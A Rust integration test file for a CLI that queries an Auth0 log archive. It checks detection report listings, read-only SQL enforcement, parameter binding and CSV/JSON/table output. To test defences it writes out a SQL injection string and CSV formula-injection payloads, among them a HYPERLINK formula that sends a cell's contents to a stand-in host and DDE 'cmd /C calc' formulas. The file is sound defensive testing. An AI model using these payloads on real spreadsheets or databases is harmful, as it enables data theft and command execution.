//! `query list`, `query sql`, parameters and output formats, through the
//! real binary on a real archive.

use std::io::Read;
use std::process::{Command, Stdio};

use crate::query_support::*;
use serde_json::{Value, json};

fn small() -> Archive {
    archive(&[
        ev("fp", 0)
            .ip("203.0.113.10")
            .user("auth0|alice")
            .desc("Wrong email or password, \"again\""),
        ev("s", 60)
            .ip("203.0.113.10")
            .user("auth0|alice")
            .place("Berlin", "DE", 52.52, 13.405),
        ev("s", 120).user("auth0|bob"),
    ])
}

#[test]
fn list_shows_every_report_with_its_parameters() {
    let a = small();
    let out = ok(&cli(&a.db, &["query", "list", "--format", "json"]));
    let v: Value = serde_json::from_str(&out).unwrap();
    let bf = v
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == "brute-force")
        .unwrap();
    assert!(
        bf["description"]
            .as_str()
            .unwrap()
            .contains("failed logins")
    );
    let threshold = bf["params"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "threshold")
        .unwrap();
    assert_eq!(threshold["type"], "integer");
    assert_eq!(threshold["default"], "10");
    for required in [
        "brute-force",
        "credential-stuffing",
        "impossible-travel",
        "breached-passwords",
        "mfa-push-bombing",
        "admin-actions",
        "event-summary",
        "user-timeline",
        "rate-limit-events",
        "refresh-token-reuse",
        "cross-origin-auth",
        "shared-mfa-phone",
        "signup-surge",
        "unknown-event-types",
        "new-country-for-user",
    ] {
        assert!(
            v.as_array().unwrap().iter().any(|r| r["name"] == required),
            "{required} missing"
        );
    }
    let table = ok(&cli(&a.db, &["query", "list", "--format", "table"]));
    assert!(table.lines().next().unwrap().starts_with("name"));
    assert!(table.contains("threshold (integer, default 10)"));
}

#[test]
fn unknown_report_parameter_or_bad_type_is_a_usage_error_listing_valid_ones() {
    let a = small();
    let out = cli(&a.db, &["query", "run", "brute-forse"]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("brute-force") && err.contains("user-timeline"),
        "{err}"
    );
    assert_eq!(err.lines().count(), 1);

    let out = cli(
        &a.db,
        &["query", "run", "brute-force", "--param", "treshold=3"],
    );
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("threshold (integer, default 10)") && err.contains("since"),
        "{err}"
    );

    let out = cli(
        &a.db,
        &["query", "run", "brute-force", "--param", "threshold=many"],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("integer"));

    let out = cli(
        &a.db,
        &[
            "query",
            "run",
            "brute-force",
            "--param",
            "since=last tuesday",
        ],
    );
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn parameters_are_bound_not_spliced() {
    let a = small();
    // A quote in a text parameter is data, not SQL.
    let rows = report(&a.db, "user-timeline", &["user=auth0|alice' OR '1'='1"]);
    assert!(rows.is_empty());
    let rows = report(&a.db, "user-timeline", &["user=auth0|alice"]);
    assert_eq!(rows.len(), 2);
}

#[test]
fn ad_hoc_writes_are_refused_and_change_nothing() {
    let a = small();
    for sql in [
        "DELETE FROM events",
        "UPDATE events SET ip = 'x'",
        "INSERT INTO event_types VALUES ('x', 'y', 'z')",
        "DROP TABLE events",
        "CREATE TABLE t (x)",
        "PRAGMA user_version = 99",
    ] {
        let out = cli(&a.db, &["query", "sql", sql]);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{sql}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("read-only"),
            "{sql}"
        );
    }
    let other = a.dir.path().join("other.db");
    let attach = format!("ATTACH DATABASE '{}' AS o", other.display());
    let out = cli(&a.db, &["query", "sql", &attach]);
    assert_eq!(out.status.code(), Some(2));
    assert!(!other.exists(), "ATTACH must not create a file");
    let out = cli(&a.db, &["query", "sql", "SELECT 1; DELETE FROM events"]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(sql_count(&a.db, "SELECT count(*) FROM events"), 3);
    assert_eq!(
        sql_count(&a.db, "PRAGMA user_version"),
        i64::from(auth0_archive::store::SCHEMA_VERSION)
    );
}

#[test]
fn ad_hoc_writes_are_refused_on_duckdb_too() {
    let a = small();
    for sql in ["DELETE FROM events", "CREATE TABLE t (x INTEGER)"] {
        let out = cli(&a.db, &["query", "sql", sql, "--engine", "duckdb"]);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{sql}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let target = a.dir.path().join("leak.csv");
    let copy = format!("COPY events TO '{}'", target.display());
    let out = cli(&a.db, &["query", "sql", &copy, "--engine", "duckdb"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(!target.exists());
    let out = ok(&cli(
        &a.db,
        &[
            "query",
            "sql",
            "SELECT count(*) AS n FROM events",
            "--engine",
            "duckdb",
            "--format",
            "json",
        ],
    ));
    assert_eq!(
        serde_json::from_str::<Value>(&out).unwrap(),
        json!([{"n": 3}])
    );
}

#[test]
fn a_bad_ad_hoc_statement_is_one_clear_line() {
    let a = small();
    let out = cli(&a.db, &["query", "sql", "SELEC nonsense"]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("SQL error"));
}

#[test]
fn json_keeps_numbers_and_nulls_and_ndjson_is_one_object_per_line() {
    let a = small();
    let sql = "SELECT user_id, ts, latitude, city_name FROM events ORDER BY ts";
    for engine in ["sqlite", "duckdb"] {
        let out = ok(&cli(
            &a.db,
            &["query", "sql", sql, "--format", "json", "--engine", engine],
        ));
        let v: Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v[1]["latitude"], json!(52.52), "{engine}");
        assert!(v[1]["ts"].is_i64());
        assert_eq!(v[0]["city_name"], Value::Null);
        let out = ok(&cli(
            &a.db,
            &[
                "query", "sql", sql, "--format", "ndjson", "--engine", engine,
            ],
        ));
        let lines: Vec<Value> = out
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(lines, v.as_array().unwrap().clone());
    }
}

#[test]
fn csv_is_the_default_off_a_terminal_and_quotes_per_rfc4180() {
    let a = small();
    let out = ok(&cli(
        &a.db,
        &[
            "query",
            "sql",
            "SELECT description, ts FROM events ORDER BY ts LIMIT 1",
        ],
    ));
    assert_eq!(
        out,
        format!(
            "description,ts\r\n\"Wrong email or password, \"\"again\"\"\",{}\r\n",
            chrono::DateTime::parse_from_rfc3339(&at(0))
                .unwrap()
                .timestamp_millis()
        )
    );
}

#[test]
fn table_aligns_and_truncates_only_long_values() {
    let a = small();
    let sql = "SELECT user_id, raw FROM events ORDER BY ts";
    let table = ok(&cli(&a.db, &["query", "sql", sql, "--format", "table"]));
    assert!(table.contains('…'));
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(lines[2].find("{\"log_id"), lines[3].find("{\"log_id"));
    // CSV carries the whole value.
    let csv = ok(&cli(&a.db, &["query", "sql", sql, "--format", "csv"]));
    assert!(csv.contains("\"\"location_info\"\""));
}

#[test]
fn a_closed_pipe_exits_quietly_with_success() {
    let a = small();
    let mut child = Command::new(BIN)
        .arg("--db")
        .arg(&a.db)
        .args([
            "query",
            "sql",
            "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 5000000) SELECT x FROM c",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let mut first = [0u8; 16];
    stdout.read_exact(&mut first).unwrap();
    drop(stdout);
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert!(
        out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_missing_archive_is_a_database_error() {
    let dir = tempfile::tempdir().unwrap();
    let out = cli(
        &dir.path().join("none.db"),
        &["query", "run", "event-summary"],
    );
    assert_eq!(out.status.code(), Some(5));
}

/// Events whose user-controlled fields a spreadsheet would run as formulas
/// (OWASP "CSV Injection"): = + - @, a leading tab and a leading CR.
fn hostile() -> Archive {
    let mut a = ev("s", 0)
        .user_name("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")
        .desc("+1+cmd|' /C calc'!A0");
    a.0["user_agent"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
    let mut b = ev("fp", 60).user_name("-2+3").desc("\tleading tab");
    b.0["user_agent"] = json!("\rcarriage return");
    let mut c = ev("s", 120)
        .user_name("a=b@example.com")
        .desc("Successful login");
    c.0["user_agent"] = json!("Mozilla/5.0");
    archive(&[a, b, c])
}

const HOSTILE_SQL: &str = "SELECT user_name, description, user_agent, -5 AS n, -1.5 AS r, '-5' AS t FROM events ORDER BY ts";

#[test]
fn csv_defuses_spreadsheet_formulas_in_text_but_keeps_numbers() {
    let a = hostile();
    let expected = "user_name,description,user_agent,n,r,t\r\n\
        \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",'+1+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,-5,-1.5,'-5\r\n\
        '-2+3,'\tleading tab,\"'\rcarriage return\",-5,-1.5,'-5\r\n\
        a=b@example.com,Successful login,Mozilla/5.0,-5,-1.5,'-5\r\n";
    for engine in ["sqlite", "duckdb"] {
        let explicit = ok(&cli(
            &a.db,
            &[
                "query",
                "sql",
                HOSTILE_SQL,
                "--format",
                "csv",
                "--engine",
                engine,
            ],
        ));
        assert_eq!(explicit, expected, "{engine}");
        // Off a terminal CSV is the default, and it is the safe one.
        let default = ok(&cli(
            &a.db,
            &["query", "sql", HOSTILE_SQL, "--engine", engine],
        ));
        assert_eq!(default, expected, "{engine}");
    }
    // Column names come from the statement: they are cells too.
    let header = ok(&cli(
        &a.db,
        &[
            "query",
            "sql",
            "SELECT 1 AS \"=cmd\", 2 AS \"ok\"",
            "--format",
            "csv",
        ],
    ));
    assert_eq!(header, "'=cmd,ok\r\n1,2\r\n");
}

#[test]
fn csv_raw_json_and_ndjson_keep_every_value_exact() {
    let a = hostile();
    let lite = rusqlite::Connection::open(&a.db).unwrap();
    let stored: Vec<(String, String, String)> = lite
        .prepare("SELECT user_name, description, user_agent FROM events ORDER BY ts")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(stored[1].2, "\rcarriage return");
    for engine in ["sqlite", "duckdb"] {
        let raw = ok(&cli(
            &a.db,
            &[
                "query",
                "sql",
                HOSTILE_SQL,
                "--format",
                "csv-raw",
                "--engine",
                engine,
            ],
        ));
        assert_eq!(
            raw,
            "user_name,description,user_agent,n,r,t\r\n\
             \"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",+1+cmd|' /C calc'!A0,@SUM(1+1)*cmd|' /C calc'!A0,-5,-1.5,-5\r\n\
             -2+3,\tleading tab,\"\rcarriage return\",-5,-1.5,-5\r\n\
             a=b@example.com,Successful login,Mozilla/5.0,-5,-1.5,-5\r\n",
            "{engine}"
        );
        for format in ["json", "ndjson"] {
            let out = ok(&cli(
                &a.db,
                &[
                    "query",
                    "sql",
                    HOSTILE_SQL,
                    "--format",
                    format,
                    "--engine",
                    engine,
                ],
            ));
            let rows: Vec<Value> = if format == "json" {
                serde_json::from_str::<Value>(&out)
                    .unwrap()
                    .as_array()
                    .unwrap()
                    .clone()
            } else {
                out.lines()
                    .map(|l| serde_json::from_str(l).unwrap())
                    .collect()
            };
            let got: Vec<(String, String, String)> = rows
                .iter()
                .map(|r| {
                    assert_eq!(r["n"], json!(-5), "{engine} {format}");
                    assert_eq!(r["r"], json!(-1.5), "{engine} {format}");
                    assert_eq!(r["t"], json!("-5"), "{engine} {format}");
                    (
                        r["user_name"].as_str().unwrap().to_string(),
                        r["description"].as_str().unwrap().to_string(),
                        r["user_agent"].as_str().unwrap().to_string(),
                    )
                })
                .collect();
            assert_eq!(got, stored, "{engine} {format}");
        }
    }
}

#[test]
fn the_table_shows_text_as_stored_for_a_terminal() {
    let a = hostile();
    let table = ok(&cli(
        &a.db,
        &[
            "query",
            "sql",
            "SELECT user_name, description FROM events ORDER BY ts",
            "--format",
            "table",
        ],
    ));
    assert!(
        table.contains("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
        "{table}"
    );
    assert!(table.contains("+1+cmd|' /C calc'!A0"), "{table}");
    assert!(!table.contains("'="), "{table}");
    // Control characters never reach the terminal.
    assert!(!table.contains('\t') && !table.contains('\r'), "{table:?}");
}
